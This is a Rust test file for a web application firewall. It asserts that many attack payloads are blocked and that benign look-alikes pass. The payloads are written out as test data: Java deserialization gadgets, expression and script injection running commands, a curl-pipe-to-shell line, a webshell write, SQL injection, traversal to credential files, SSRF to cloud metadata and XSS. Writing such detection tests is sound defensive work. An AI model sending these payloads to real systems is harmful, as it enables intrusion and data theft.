//! Attack classes added for issue 19 (Java deserialization, expression-language
//! and script injection, render arrays, path normalisation), each with several
//! variants and benign look-alikes; command-injection forms from the public payload
//! lists (globbed command paths, time-based probes, later arguments); request context
//! (code submissions, JSON beacons, blobs); sensitivity levels; the exclusion round
//! trip.

use moat_waf::triage::{self, ExclusionRequest};
use moat_waf::{Attack, BodyView, RequestView, Sensitivity, WafConfig, WafEngine};

fn engine(cfg: &WafConfig) -> std::sync::Arc<WafEngine> {
    match WafEngine::build(cfg) {
        Ok(e) => e,
        Err(e) => panic!("{e}"),
    }
}

fn inspect(e: &WafEngine, method: &str, target: &str, ct: &str, body: &str) -> moat_waf::Findings {
    let mut headers: Vec<(&str, &[u8])> = vec![
        ("host", b"example.test"),
        (
            "user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        ),
    ];
    if !ct.is_empty() {
        headers.push(("content-type", ct.as_bytes()));
    }
    let view = RequestView {
        method,
        target: target.as_bytes(),
        headers: headers.into(),
    };
    e.inspect(
        "default",
        &view,
        Some(BodyView {
            data: body.as_bytes(),
            truncated: false,
        }),
    )
}

fn blocked(e: &WafEngine, method: &str, target: &str, ct: &str, body: &str) -> bool {
    e.would_block(&inspect(e, method, target, ct, body))
}

const FORM: &str = "application/x-www-form-urlencoded";

/// Whether `value` is blocked as a query parameter and as a form field, in that order.
fn blocked_in_query_and_form(e: &WafEngine, value: &str) -> (bool, bool) {
    let q = format!("/search?q={}", form_encode(value));
    let body = format!("name=x&comment={}", form_encode(value));
    (
        blocked(e, "GET", &q, "", ""),
        blocked(e, "POST", "/comments", FORM, &body),
    )
}

/// Every attack is blocked in a query and in a form field; every benign look-alike
/// passes in both.
fn assert_class(e: &WafEngine, attacks: &[&str], benign: &[&str]) {
    for a in attacks {
        assert_eq!(blocked_in_query_and_form(e, a), (true, true), "missed: {a}");
    }
    for b in benign {
        let got = blocked_in_query_and_form(e, b);
        assert_eq!(got, (false, false), "false positive: {b}");
    }
}

fn form_encode(s: &str) -> String {
    let mut o = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.') {
            o.push(b as char);
        } else {
            o.push_str(&format!("%{b:02X}"));
        }
    }
    o
}

#[test]
fn java_deserialization() {
    let e = engine(&WafConfig::default());
    let attacks = [
        // XStream object graphs (CVE-2017-9805, CVE-2021-39144 style)
        ("application/xml", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"></value></jdk.nashorn.internal.objects.NativeString></entry></map>"),
        ("application/xml", "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("text/xml", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default></java.util.PriorityQueue></java.util.PriorityQueue>"),
        // XMLDecoder (WebLogic CVE-2017-10271 style)
        ("text/xml", "<soapenv:Envelope><soapenv:Header><work:WorkContext><java version=\"1.8\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>"),
        // serialized objects as base64 / hex in parameters and cookies
        (FORM, "state=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
        (FORM, "viewstate=H4sI%3Bx&data=aced0005737200116a6176612e7574696c2e486173684d6170"),
        ("application/json", "{\"session\":\"prefix:rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==\"}"),
    ];
    for (ct, body) in attacks {
        let f = inspect(&e, "POST", "/api/x", ct, body);
        assert!(e.would_block(&f), "missed: {body}\n{f:?}");
        assert!(
            f.findings
                .iter()
                .any(|x| x.attack == Attack::Deserialization),
            "{body}: {f:?}"
        );
    }
    let benign = [
        ("application/xml", "<project><groupId>org.apache.commons</groupId><artifactId>commons-collections4</artifactId><version>4.4</version></project>"),
        ("application/xml", "<beans><bean id=\"ds\" class=\"org.springframework.jdbc.datasource.DriverManagerDataSource\"><property name=\"url\" value=\"jdbc:h2:mem:\"/></bean></beans>"),
        ("text/xml", "<Configuration><Loggers><Logger name=\"java.lang.Runtime\" level=\"warn\"/></Loggers></Configuration>"),
        (FORM, "token=rO0ABC&name=rO0ABwhatever"),
        (FORM, "hash=aced00051234"),
        ("application/json", "{\"doc\":\"Java objects serialize to a stream starting with 0xACED0005 (base64 rO0AB)\"}"),
    ];
    for (ct, body) in benign {
        assert!(
            !blocked(&e, "POST", "/api/x", ct, body),
            "false positive: {body}"
        );
    }
}

#[test]
fn expression_and_script_injection() {
    let e = engine(&WafConfig::default());
    let attacks = [
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")}",
        "def p = \"id\".execute(); println p.text",
        "['bash','-c','curl x|sh'].execute()",
        "println 'uname -a'.execute().text",
        "Runtime.getRuntime().exec(\"id\")",
        "return os.execute('id')",
        "local f = io.popen('cat /etc/passwd') return f:read('*a')",
        "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
        "new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')",
    ];
    for a in attacks {
        let body = format!("script={}", form_encode(a));
        assert!(blocked(&e, "POST", "/script", FORM, &body), "missed: {a}");
        let q = format!("/api/eval?expr={}", form_encode(a));
        assert!(blocked(&e, "GET", &q, "", ""), "missed in query: {a}");
    }
    let benign = [
        "SELECT t FROM tickets WHERE status = 'open'",
        "Use T(n) = O(n log n) for the merge step",
        "The job will execute() the batch at midnight",
        "db.execute(query, params)",
        "Lua's os.time() returns seconds; io.write prints",
        "stmt.execute(); conn.commit()",
        "Mr. T (the actor) was in the A-Team",
    ];
    for b in benign {
        let body = format!("comment={}", form_encode(b));
        assert!(
            !blocked(&e, "POST", "/comments", FORM, &body),
            "false positive: {b}"
        );
    }
}

#[test]
fn render_arrays() {
    let e = engine(&WafConfig::default());
    for body in [
        "form_id=user_register_form&mail[%23post_render][]=exec&mail[%23markup]=id",
        "name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=uname+-a",
        "a[%23lazy_builder][0]=system&a[%23lazy_builder][1][]=id",
        "x[%23access_callback]=assert",
    ] {
        assert!(
            blocked(&e, "POST", "/node/add", FORM, body),
            "missed: {body}"
        );
    }
    let f = inspect(
        &e,
        "POST",
        "/api",
        "application/json",
        "{\"mail\":{\"#pre_render\":[\"exec\"]}}",
    );
    assert!(e.would_block(&f), "{f:?}");
    for body in [
        "color=%23fff&tag=%23news",
        "q=%23markup+tutorial&section[%23anchor]=x",
        "hashtags[]=%23submit&title=Issue+%23123",
    ] {
        assert!(
            !blocked(&e, "POST", "/node/add", FORM, body),
            "false positive: {body}"
        );
    }
}

/// Shell forms the public command-injection payload lists use that need the shell's
/// own reading: a command named by a glob (`/???/??t`), an empty substitution inside
/// the command word, `sleep N` as the whole command (the blind, time-based probe), a
/// system path after the first argument, a redirection later in the command.
#[test]
fn command_injection_shell_forms() {
    let e = engine(&WafConfig::default());
    assert_class(
        &e,
        &[
            ";/bin/c?t /etc/passwd",
            "; netsh firewall set opmode disable",
            "|/???/??t /etc/passwd",
            "1;/usr/bin/wh??mi",
            ";wh$()oami",
            ";sleep 5",
            "| sleep 5",
            "`sleep 5`",
            "1 && sleep 10 #",
            ";grep root /etc/passwd",
            ";echo vulnerable > /tmp/x",
            "x; printf '<?php system($_GET[0]);' >> /var/www/html/s.php",
            ";printenv",
            // session 24: a wrapper running a listed command; a quoted first argument
            ";timeout 5 id",
            "| nice -n 10 cat /etc/shadow",
            "&& env X=1 whoami",
            "; awk '{print $1}' /etc/passwd",
        ],
        &[
            "Good night; sleep 8 hours",
            "Tom & Jerry; timeout 30 seconds later",
            "rates & sleep 10 hours",
            "Q&A; more info /docs/faq",
            "see below; find it in /usr/share/doc",
            "price; more than 5 > 3",
            "results: a > b; echo chamber",
            "what is /bin/c?t",
            "docs; /api/v?/items",
            "sort by date; grep for it later",
            "fish & chips; cat food > dog food",
            "coffee; time is money",
            "cats & nice cat pictures",
            "ok; sudo make me a sandwich",
            "try; awk 'is a tool' for text",
        ],
    );
}

/// SQL probes from the public payload lists that the numeric context or parentheses
/// hid (session 24): the column-count probe has no byte outside the inert classes.
#[test]
fn sql_clause_probes() {
    let e = engine(&WafConfig::default());
    assert_class(
        &e,
        &[
            "1 order by 3--",
            "1 ORDER BY 2#",
            "1 group by 2 having 1=1",
            "admin') or ('1'='1'--",
            "x' and (1=1)#",
            "' GROUP BY x HAVING 1=1--",
            "select current_setting('port');",
            // the fragments a scanner appends, sent as the whole value (session 25)
            " OR 1=1#",
            " AND 1=0-- ",
            " HAVING 1=1#",
            " ORDER BY 3--",
        ],
        &[
            "2 books by Tolkien",
            "Order by phone",
            "or more",
            "AND/OR logic",
            "10 minutes by car - or less",
            "3 orders by phone",
            "1 group by the river",
            "it's (mostly) or (partly) true",
        ],
    );
}

/// A server's configuration, log or credential file named as a whole parameter value
/// (session 25, from the public LFI lists' half A): judged by the file's kind, not
/// by a list of paths.
#[test]
fn server_file_probes() {
    let e = engine(&WafConfig::default());
    assert_class(
        &e,
        &[
            "/usr/local/apache2/conf/httpd.conf",
            "/opt/xampp/logs/access_log",
            "/etc/php5/apache2/php.ini",
            "/var/www/localhost/htdocs/.htaccess",
            "/root/.bash_history",
            "C:\\inetpub\\wwwroot\\global.asa",
            "../config.inc.php",
            "../../logs/error.log",
            "/proc/net/tcp",
            "/etc/passwd-",
            ".\\./.\\./.\\./etc/passwd",
            // Windows paths with backslashes, a path in a string literal
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "C:\\WINNT\\repair\\SAM",
            "include('/etc/passwd')",
            "{{ get_user_file(\"C:\\boot.ini\") }}",
        ],
        &[
            "/admin/index.php",
            "/account/settings",
            "/.gitignore",
            "/.well-known/security.txt",
            "config.ini",
            "see /etc/nginx/nginx.conf for the settings",
            "https://example.com/changelog.log",
            "/catalog/2024/spring",
            "C:\\Users\\me\\Documents\\report.docx",
            "the file 'docs/etc/passwd' is a sample",
        ],
    );
}

#[test]
fn path_normalisation() {
    let e = engine(&WafConfig::default());
    for t in [
        "/app/..;/manager/html",
        "/static/..;/WEB-INF/web.xml",
        "/%57EB-INF/web.xml",
        "/WEB-INF%2fweb.xml",
        "/app/%2e%2e/%2e%2e/admin",
        "/app/..%2f..%2fadmin",
        "/files/%252e%252e/secret",
        "/META-INF/MANIFEST.MF",
        "/;/..;/admin",
    ] {
        assert!(blocked(&e, "GET", t, "", ""), "missed: {t}");
    }
    for t in [
        "/docs/web-infrastructure/intro",
        "/blog/2024/..hidden-gems",
        "/a/b;jsessionid=1234/c",
        "/releases/v1.2..v1.3",
        "/static/app.min.js",
    ] {
        assert!(!blocked(&e, "GET", t, "", ""), "false positive: {t}");
    }
}

fn playground_js() -> String {
    "<!doctype html>\n<html>\n<body>\n<div id=\"app\"></div>\n<script>\n  const el = document.getElementById('app');\n  el.innerHTML = '<img src=x onerror=\"alert(document.cookie)\">';\n  fetch('/api?q=' + encodeURIComponent(\"' OR 1=1 --\"));\n  eval(atob('YWxlcnQoMSk='));\n</script>\n</body>\n</html>\n".into()
}

#[test]
fn code_submissions_are_context() {
    let e = engine(&WafConfig::default());
    let code = playground_js();
    // a code field with code-shaped content passes at the default sensitivity
    for (ct, body) in [
        (
            FORM.to_string(),
            format!("title=demo&html={}", form_encode(&code)),
        ),
        (
            FORM.to_string(),
            format!("files[0][content]={}", form_encode(&code)),
        ),
        (
            "multipart/form-data; boundary=zz".to_string(),
            format!(
                "--zz\r\nContent-Disposition: form-data; name=\"code\"\r\n\r\n{code}\r\n--zz--\r\n"
            ),
        ),
        (
            "application/json".to_string(),
            serde_json::json!({"files": [{"name": "index.html", "source": code}]}).to_string(),
        ),
    ] {
        let f = inspect(&e, "POST", "/playground/save", &ct, &body);
        assert!(!e.would_block(&f), "code submission blocked: {f:?}");
        assert!(
            !f.findings.is_empty(),
            "still recorded (monitor) for triage"
        );
    }
    // the same content in a non-code field, or a one-line payload in a code field, blocks
    let f = inspect(
        &e,
        "POST",
        "/playground/save",
        FORM,
        &format!("comment={}", form_encode(&code)),
    );
    assert!(e.would_block(&f));
    let f = inspect(
        &e,
        "POST",
        "/playground/save",
        FORM,
        "code=%3Cscript%3Ealert(1)%3C/script%3E",
    );
    assert!(e.would_block(&f));
    // strict keeps blocking code submissions whose findings are strong
    let strict = engine(&WafConfig {
        sensitivity: Sensitivity::Strict,
        ..Default::default()
    });
    let f = inspect(
        &strict,
        "POST",
        "/playground/save",
        FORM,
        &format!("html={}", form_encode(&code)),
    );
    assert!(strict.would_block(&f), "{f:?}");
    // findings that are not shape-based keep their confidence in code fields
    let jndi = format!("{code}\n${{jndi:ldap://x.example/a}}\n");
    let f = inspect(
        &e,
        "POST",
        "/p",
        FORM,
        &format!("code={}", form_encode(&jndi)),
    );
    assert!(e.would_block(&f), "{f:?}");
}

#[test]
fn beacons_and_blobs() {
    let e = engine(&WafConfig::default());
    // an analytics beacon: large JSON of page metadata, sent as text/plain by sendBeacon
    let mut events = Vec::new();
    for i in 0..60 {
        events.push(serde_json::json!({
            "t": "pageview",
            "url": format!("https://shop.example/search?q=select+from+list&page={i}"),
            "title": "Select from our list of 'best' items -- or sort (by price)",
            "ref": "https://www.google.com/",
            "sel": "div#main > ul.items li:nth-child(2) a[href^='/p/']",
        }));
    }
    let beacon = serde_json::json!({"events": events, "ua": "Mozilla/5.0"}).to_string();
    assert!(beacon.len() > 4096);
    for ct in ["text/plain;charset=UTF-8", "application/json"] {
        let f = inspect(&e, "POST", "/collect", ct, &beacon);
        assert!(!e.would_block(&f), "{ct}: {f:?}");
    }
    // strong attacks inside a beacon still block
    let bad = beacon.replacen(
        "\"pageview\"",
        "\"' UNION SELECT password FROM users--\"",
        1,
    );
    assert!(blocked(&e, "POST", "/collect", "application/json", &bad));
    // a base64 blob of binary data is not analysed as text
    let blob: String = (0..200u32)
        .map(|i| {
            let c = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                [(i * 37 % 64) as usize];
            c as char
        })
        .collect();
    let f = inspect(
        &e,
        "POST",
        "/upload",
        FORM,
        &format!("img={}", form_encode(&blob)),
    );
    assert!(f.findings.is_empty(), "{f:?}");
}

#[test]
fn sensitivity_thresholds() {
    for (s, t) in [
        (Sensitivity::Low, 75),
        (Sensitivity::Balanced, 60),
        (Sensitivity::Strict, 50),
    ] {
        let e = engine(&WafConfig {
            sensitivity: s,
            ..Default::default()
        });
        assert_eq!(e.block_threshold(), t);
    }
    let e = engine(&WafConfig {
        sensitivity: Sensitivity::Strict,
        block_confidence: Some(90),
        ..Default::default()
    });
    assert_eq!(e.block_threshold(), 90);
    // plain `..` in a path is monitored at balanced and blocked at strict
    let b = engine(&WafConfig::default());
    let s = engine(&WafConfig {
        sensitivity: Sensitivity::Strict,
        ..Default::default()
    });
    assert!(!blocked(&b, "GET", "/a/../b", "", ""));
    assert!(blocked(&s, "GET", "/a/../b", "", ""));
    // config spelling
    let cfg: WafConfig =
        match moat_config::from_str(std::path::Path::new("t.yaml"), "sensitivity: strict\n") {
            Ok(c) => c,
            Err(e) => panic!("{e}"),
        };
    assert_eq!(cfg.sensitivity, Sensitivity::Strict);
    let err = moat_config::from_str::<WafConfig>(
        std::path::Path::new("t.yaml"),
        "sensitivity: paranoid\n",
    )
    .err()
    .map(|e| e.to_string())
    .unwrap_or_default();
    assert!(
        err.contains("t.yaml:1:") && err.contains("sensitivity"),
        "{err}"
    );
}

#[test]
fn exclusion_round_trip() {
    let base = WafConfig::default();
    let e = engine(&base);
    let target = "/cms/articles/7/save";
    let body = "title=Hello&body=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E";
    let f = inspect(&e, "POST", target, FORM, body);
    assert!(e.would_block(&f));
    let top = f.strongest(e.block_threshold()).cloned();
    let Some(top) = top else {
        panic!("no blocking finding")
    };
    // what the event carries
    let details = triage::event_details(&top);
    assert_eq!(details["field"], "body");
    assert_eq!(details["detector"], "xss");
    // the stored record as `moat events --json` shows it
    let record = serde_json::json!({
        "route": "default",
        "path": target,
        "event": {"engine": "waf", "rule": "xss", "location": top.location, "details": details},
    });
    let Some(req) = triage::request_from_record(&record) else {
        panic!("record not understood")
    };
    assert_eq!(
        req,
        ExclusionRequest {
            route: Some("default".into()),
            path: Some(target.into()),
            detector: "xss".into(),
            rule: None,
            location: Some("form:body".into()),
        }
    );
    let snippet = triage::render_snippet(&triage::exclusion_for(&req, triage::Scope::Narrow), None);
    // applied to the config (parsed back through moat-config like any config)
    #[derive(serde::Deserialize)]
    struct Wrapped {
        waf: WafConfig,
    }
    let w: Wrapped = match moat_config::from_str(std::path::Path::new("snippet.yaml"), &snippet) {
        Ok(w) => w,
        Err(err) => panic!("{err}\n{snippet}"),
    };
    let cfg = WafConfig {
        exclusions: w.waf.exclusions,
        ..base
    };
    let e2 = engine(&cfg);
    assert!(
        !e2.would_block(&inspect(&e2, "POST", target, FORM, body)),
        "{snippet}"
    );
    // only that field on that path: the same payload elsewhere still blocks
    assert!(e2.would_block(&inspect(
        &e2,
        "POST",
        target,
        FORM,
        "title=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
    )));
    assert!(e2.would_block(&inspect(&e2, "POST", "/cms/other", FORM, body)));
    assert!(e2.would_block(&inspect(
        &e2,
        "POST",
        target,
        FORM,
        "body2=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
    )));
}

/// A double extension is looked for in the last non-empty path segment, whatever
/// slashes follow it.
#[test]
fn path_double_extension_in_the_last_segment() {
    let e = engine(&WafConfig::default());
    let upload_in_path = |t: &str| {
        inspect(&e, "GET", t, "", "")
            .findings
            .iter()
            .any(|f| f.attack == Attack::Upload && f.location == "path")
    };
    for t in [
        "/uploads/shell.php.jpg",
        "/uploads/shell.php.jpg/",
        "/uploads/shell.php.jpg//",
        "shell.php.jpg",
    ] {
        assert!(upload_in_path(t), "missed: {t}");
    }
    for t in [
        "/uploads/photo.jpg",
        "/uploads/shell.php.jpg/view",
        "/",
        "//",
        "",
    ] {
        assert!(!upload_in_path(t), "false positive: {t}");
    }
}

/// Forms from the public payload lists that passed at the start of session 26, one
/// or two per class, through the whole engine (decoding, gates, detectors), each
/// class with the look-alikes that must still pass.
#[test]
fn payload_list_forms_session_26() {
    let e = engine(&WafConfig::default());
    assert_class(
        &e,
        &[
            // overlong UTF-8 of every length, IIS's best fit of %u look-alikes
            "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
            "..%uff0f..%uff0fwindows%uff0fwin.ini",
            // IIS's lenient reading of a 2-byte sequence
            "..%c0%2f..%c0%2f..%c0%2fetc%c0%2fpasswd",
            // runs of separators
            "..//windows//system32//drivers//etc//hosts",
            // a Windows server file with forward slashes and spaces; a NUL cut
            "C:/program files/mysql/mysql server 5.1/my.ini",
            "/etc/security/group\0",
            // a MongoDB $where break-out
            "';return 'a'=='a' && ''=='",
            // a listed command split by quoting; brace expansion
            "w'h'o'am'i",
            "{,ifconfig}",
            "{cat,/tmp/notes}",
            // template callbacks and Groovy
            "{{[0]|reduce('system','id')}}",
            "${\"http://evil.example\".toURL().text}",
            "elem(System.shell(\"id\"), 0)",
            // internal hosts in the short forms and look-alikes
            "http://127.1/admin",
            "http://①②⑦.⓪.⓪.①/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            // XSLT calling PHP
            "<xsl:value-of select=\"php:function('shell_exec','id')\"/>",
            // XPath's blind probe; SQL delays and conditions without a separator
            "') and starts-with(../password,'c",
            "1 WAITFOR DELAY '0:0:5'--",
            "' AND CASE WHEN 1=1 THEN 1 ELSE 0 END AND 'A'='A",
        ],
        &[
            "https://example.com//images//logo.png",
            "C:/Users/me/Documents/my notes.txt",
            "1; return within 30 days",
            "I'd like a refund",
            "{id,name}",
            "{{ items|map('title')|join(', ') }}",
            "http://1.2/",
            "http://10-1-2-3.corp.example/",
            "<xsl:value-of select=\"title\"/>",
            "https://例え.jp/",
            "'Rock' and Roll",
            "please waitfor delay notices",
        ],
    );
}

/// A form field's line break is a textarea's layout; one encoded twice is not.
#[test]
fn twice_encoded_line_breaks_in_a_form_are_separators() {
    let e = engine(&WafConfig::default());
    let form = |body: &str| blocked(&e, "POST", "/f", FORM, body);
    assert!(form("name=x&comment=%250Aid"));
    assert!(form("name=x&host=127.0.0.1%250d%250awhoami"));
    // the same lines typed into a textarea arrive encoded once
    assert!(!form(
        "name=x&comment=Thanks%21%0D%0Aid+like+a+refund%0D%0Aid"
    ));
    assert!(!form("name=x&comment=see+you%0Aid"));
}
